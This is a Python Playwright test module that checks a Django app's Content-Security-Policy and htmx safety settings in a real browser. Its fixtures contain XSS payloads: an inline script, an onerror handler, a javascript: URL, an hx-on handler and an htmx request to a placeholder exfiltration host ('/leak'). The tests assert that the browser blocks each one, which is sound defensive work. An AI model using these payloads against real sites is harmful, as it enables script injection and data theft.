"""The Content-Security-Policy and htmx's configuration, checked in a real browser.

Two test-only views (routed by this module through `pytest.mark.urls`) serve what a sanitiser bug
would let through, under the real middleware, base template and htmx: the browser must refuse it.
"""

from __future__ import annotations

import pytest
from django.http import HttpRequest, HttpResponse
from django.template import engines
from django.urls import include, path
from playwright.sync_api import Page, expect

from tests.browser.conftest import PageProblems, login, screenshot
from tests.conftest import Persona
from tests.xss_payloads import EXFIL_HOST

pytestmark = pytest.mark.browser

EXPECTED_POLICY = {
    "default-src": "'self'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' data:",
    "connect-src": "'self'",
    "font-src": "'self'",
    "object-src": "'none'",
    "base-uri": "'none'",
    "form-action": "'self'",
    "frame-ancestors": "'none'",
}

_INJECTED_PAGE = engines["django"].from_string(
    """{% extends "base.html" %}
{% block content %}
<h1>Injected</h1>
<script>window.__ran = "inline script"; alert("inline script");</script>
<img src="/no-such-image" onerror="window.__ran = 'event handler'; alert('event handler')">
<a id="js-link" href="javascript:window.__ran = 'javascript: URL'">a javascript: link</a>
<button id="load" hx-get="/test-only/fragment" hx-target="#out">Load</button>
<div id="out"></div>
{% endblock %}"""
)

_FRAGMENT = f"""
<p id="fragment">swapped in</p>
<script>window.__ran = "swapped script"; alert("swapped script");</script>
<button id="hx-on" hx-on:click="window.__ran = 'hx-on'; alert('hx-on')">hx-on</button>
<div hx-get="https://{EXFIL_HOST}/leak" hx-trigger="load"></div>
"""


def injected_page(request: HttpRequest) -> HttpResponse:
    return HttpResponse(_INJECTED_PAGE.render({}, request))


def fragment(request: HttpRequest) -> HttpResponse:
    return HttpResponse(_FRAGMENT)


urlpatterns = [
    path("test-only/injected", injected_page),
    path("test-only/fragment", fragment),
    path("", include("feedbackloop.urls")),
]


def parse_policy(header: str) -> dict[str, str]:
    policy: dict[str, str] = {}
    for directive in header.split(";"):
        name, _, value = directive.strip().partition(" ")
        if name:
            policy[name] = value.strip()
    return policy


def test_the_login_page_is_served_under_an_enforced_policy(page: Page, live_url: str) -> None:
    response = page.goto(f"{live_url}/accounts/login/")

    assert response is not None and response.ok
    headers = response.headers
    assert parse_policy(headers["content-security-policy"]) == EXPECTED_POLICY
    assert "content-security-policy-report-only" not in headers
    expect(page.get_by_role("heading", name="Log in")).to_be_visible()
    screenshot(page, "login")


def test_htmx_runs_with_the_safe_configuration(page: Page, live_url: str) -> None:
    page.goto(f"{live_url}/accounts/login/")
    page.wait_for_function("window.htmx !== undefined")

    config = page.evaluate(
        "({allowEval: htmx.config.allowEval, allowScriptTags: htmx.config.allowScriptTags,"
        " includeIndicatorStyles: htmx.config.includeIndicatorStyles,"
        " selfRequestsOnly: htmx.config.selfRequestsOnly})"
    )

    assert config == {
        "allowEval": False,
        "allowScriptTags": False,
        "includeIndicatorStyles": False,
        "selfRequestsOnly": True,
    }
    assert page.locator("head style").count() == 0


def test_a_logged_in_page_raises_no_violations(
    page: Page, live_url: str, annotator: Persona
) -> None:
    login(page, live_url, "annotator", "pw-0123456789")

    expect(page.get_by_role("heading", name="Your projects")).to_be_visible()
    screenshot(page, "home")


def test_the_api_docs_work_under_the_policy(page: Page, live_url: str) -> None:
    response = page.goto(f"{live_url}/api/docs/")

    assert response is not None and response.ok
    assert parse_policy(response.headers["content-security-policy"]) == EXPECTED_POLICY
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("feedbackloop API")
    expect(page.locator(".opblock").first).to_be_visible()
    # Outside localhost Swagger UI would fetch a badge from validator.swagger.io: turned off.
    assert page.evaluate("ui.getConfigs().validatorUrl === null") is True
    screenshot(page, "api-docs")


@pytest.mark.urls(__name__)
def test_the_browser_refuses_injected_inline_script(
    page: Page, live_url: str, page_problems: PageProblems
) -> None:
    page_problems.expect_csp_violations = True

    page.goto(f"{live_url}/test-only/injected")
    page.locator("#js-link").click()

    assert page.evaluate("window.__ran") is None
    # Chromium's wording changes between versions; these phrases have stayed.
    blocked = [text for text in page_problems.csp_violations if "script-src 'self'" in text]
    for what in ("inline script", "inline event handler", "JavaScript URL"):
        assert any(what in text for text in blocked), (what, page_problems.csp_violations)
    screenshot(page, "injected-script-refused")


@pytest.mark.urls(__name__)
def test_htmx_runs_nothing_from_swapped_content(
    page: Page, live_url: str, page_problems: PageProblems
) -> None:
    page_problems.expect_csp_violations = True  # the injected page's own inline script
    page.goto(f"{live_url}/test-only/injected")
    page.wait_for_function("window.htmx !== undefined")

    page.locator("#load").click()
    expect(page.locator("#fragment")).to_have_text("swapped in")
    page.locator("#hx-on").click()
    page.wait_for_timeout(200)  # give a load-triggered request time to be attempted

    assert page.evaluate("window.__ran") is None
    assert page_problems.external_requests == []
